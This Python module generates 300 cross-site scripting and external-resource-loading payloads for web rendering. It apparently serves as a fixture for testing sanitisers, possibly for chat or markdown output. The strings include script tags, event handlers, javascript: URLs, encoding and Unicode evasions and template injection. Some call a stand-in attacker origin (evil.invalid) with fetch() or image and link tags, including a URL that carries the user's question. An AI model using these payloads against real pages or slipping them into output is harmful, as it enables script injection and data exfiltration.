"""300 texts that would run or load something if a page took them for more than text."""

from itertools import product

ORIGIN = "http://evil.invalid"
RUN = (
    "alert(1)",
    "window.stolen=1",
    f"fetch('{ORIGIN}/x')",
    "document.title='stolen'",
)
# How each of these would be run; @@ stands for it.
MARKUP = (
    "<script>@@</script>",
    "</script><script>@@</script>",
    "<ScRiPt >@@</sCrIpT>",
    "<<script>@@//<</script>",
    '<img src=x onerror="@@">',
    "<img src=x:x onerror=@@//>",
    '<svg onload="@@">',
    "<svg><script>@@</script></svg>",
    "<svg><animate onbegin=@@ attributeName=x dur=1s>",
    '<math><mtext></form><form><mglyph><style></math><img src onerror="@@">',
    '<iframe srcdoc="<script>@@</script>"></iframe>',
    '<iframe src="javascript:@@"></iframe>',
    '<object data="javascript:@@"></object>',
    '<embed src="javascript:@@">',
    '<a href="javascript:@@" autofocus>click</a>',
    "[click](javascript:@@)",
    "<javascript:@@>",
    '<body onload="@@">',
    '<input autofocus onfocus="@@">',
    '<select autofocus onfocus="@@"></select>',
    '<details open ontoggle="@@">x</details>',
    '<video><source onerror="@@"></video>',
    '<audio src=x onerror="@@"></audio>',
    '<marquee onstart="@@">x</marquee>',
    '<div style="animation-name:arrive" onanimationstart="@@">x</div>',
    '"><script>@@</script>',
    "'><img src=x onerror='@@'>",
    '" onmouseover="@@" x="',
    "' autofocus onfocus='@@' x='",
    "`${@@}`",
    "{{constructor.constructor('@@')()}}",
    "${constructor.constructor('@@')()}",
    "<!--><script>@@</script>-->",
    "<![CDATA[<script>@@</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=@@>"></noscript>',
    "<template><script>@@</script></template>",
    "<title></title><script>@@</script>",
    "<textarea></textarea><script>@@</script>",
    "</li></ol></div><script>@@</script>",
    "data: {@@}\n\nevent: answer\ndata: <script>@@</script>",
    "javascript:@@",
    "JaVaScRiPt&#58;@@",
    "&lt;script&gt;@@&lt;/script&gt;",
    "\\u003cscript\\u003e@@\\u003c/script\\u003e",
    "%3Cscript%3E@@%3C/script%3E",
    "+ADw-script+AD4-@@+ADw-/script+AD4-",
    "\u202e>tpircs/<@@>tpircs<",
    "<scr\u0131pt>@@</scr\u0131pt>",
    "\ufeff<script>@@</script>",
    "<a\x0bhref='javas\tcript:@@'>x</a>",
    "<form action=javascript:@@><button>send</button></form>",
    "<form id=question><input name=value onfocus=@@ autofocus></form>",
    "<p id=main name=live>@@</p><img name=cookie src=x onerror=@@>",
    "__proto__[x]=@@",
)
# What would be loaded from elsewhere, though nothing runs.
LOADED = (
    "<img src=@@>",
    "![image](@@)",
    "![](<@@>)",
    "![a][b]\n\n[b]: @@",
    "<link rel=stylesheet href=@@>",
    "<link rel=prefetch href=@@>",
    "<link rel=dns-prefetch href=@@>",
    "<style>@import '@@';</style>",
    "<style>*{background:url(@@)}</style>",
    '<div style="background:url(@@)">x</div>',
    "<base href=@@>",
    '<meta http-equiv=refresh content="0;url=@@">',
    "<iframe src=@@></iframe>",
    "<object data=@@></object>",
    "<embed src=@@>",
    "<video poster=@@></video>",
    "<audio src=@@ autoplay></audio>",
    "<track src=@@>",
    "<image href=@@>",
    "<svg><image href=@@></svg>",
    "<svg><use href=@@#x></svg>",
    "<input type=image src=@@>",
    "<body background=@@>",
    "<table background=@@><td>x</td></table>",
    "<script src=@@></script>",
    "<script type=module>import '@@'</script>",
    "<a ping=@@ href=@@>x</a>",
    "<portal src=@@></portal>",
    "<frameset><frame src=@@></frameset>",
    "<form action=@@><input type=submit autofocus></form>",
)


def payloads() -> list[str]:
    """Return them; each is another text."""
    run = [form.replace("@@", code) for form, code in product(MARKUP, RUN)]
    ends = ("a.png", "b?q=what+the+user+asked", "//c")
    loaded = [form.replace("@@", f"{ORIGIN}/{end}") for form, end in product(LOADED, ends)]
    found = list(dict.fromkeys(run + loaded))
    return found[:300]
